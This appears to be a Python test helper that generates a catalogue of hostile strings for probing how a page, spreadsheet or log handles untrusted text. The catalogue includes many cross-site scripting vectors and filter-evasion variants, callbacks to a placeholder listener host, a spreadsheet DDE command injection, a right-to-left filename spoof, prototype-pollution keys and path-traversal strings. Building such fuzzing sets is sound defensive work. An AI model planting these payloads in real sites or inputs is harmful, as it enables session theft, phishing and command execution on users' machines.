"""Texts that try to be more than text where a page shows them. `{trap}` is a listener's address."""

from typing import Final

_ALERT: Final = "alert(document.domain)"
_FETCH: Final = "fetch('{trap}/f')"

# Elements whose handlers or addresses run.
_TAGS: Final = (
    "<script>{js}</script>",
    "<ScRiPt/x>{js}</sCrIpT>",
    "<script src={trap}/s.js></script>",
    "<img src=x onerror={js}>",
    '<img src="{trap}/i.png">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<body onload={js}>",
    "<iframe src=javascript:{js}>",
    "<iframe srcdoc='<script>{js}</script>'>",
    "<iframe src={trap}/frame></iframe>",
    "<object data=javascript:{js}>",
    "<embed src={trap}/embed>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<marquee onstart={js}>",
    "<form action={trap}/form><button autofocus>x</button></form>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<meta http-equiv=refresh content='0;url={trap}/m'>",
    "<link rel=stylesheet href={trap}/l.css>",
    "<link rel=preconnect href={trap}>",
    "<base href={trap}/>",
    "<style>@import '{trap}/c.css'; * {{ background: url({trap}/b) }}</style>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={js}>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<x style=animation-name:x onanimationend={js}>",
    "<a href=javascript:{js} style=position:fixed;inset:0>click</a>",
    "<a href='&#106;avascript:{js}'>click</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>click</a>",
)
# Ends of where the text stands.
_ENDS: Final = (
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    '" onmouseover={js} x="',
    "' autofocus onfocus={js} x='",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "</script><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "`-{js}-`",
    "${{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "';{js};//",
    "\\';{js};//",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "//{host}/path",
    "\\\\{host}\\path",
)
# Texts that disturb what is next to them, or a spreadsheet, a terminal, a log.
_OTHERS: Final = (
    "\u202eexe.gpj\u202c",
    "a\u200b\u200d\ufeffb",
    "Z\u0351\u036b\u0343\u036aa\u0328\u034fl\u0489g\u0362o\u0321" * 6,
    "W" * 180,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "__proto__",
    "constructor",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "../../../../v1/auth/logout",
    "?status=failed&pseudo",
    "#/login",
)


def hostile_texts(trap: str) -> list[str]:
    host = trap.partition("//")[2]
    made = [text.format(js=_ALERT, trap=trap, host=host) for text in (*_TAGS, *_ENDS, *_OTHERS)]
    fetching = [
        text.format(js=_FETCH.format(trap=trap), trap=trap, host=host) for text in (_TAGS[0], _TAGS[3], _ENDS[0])
    ]
    return [*made, *fetching]
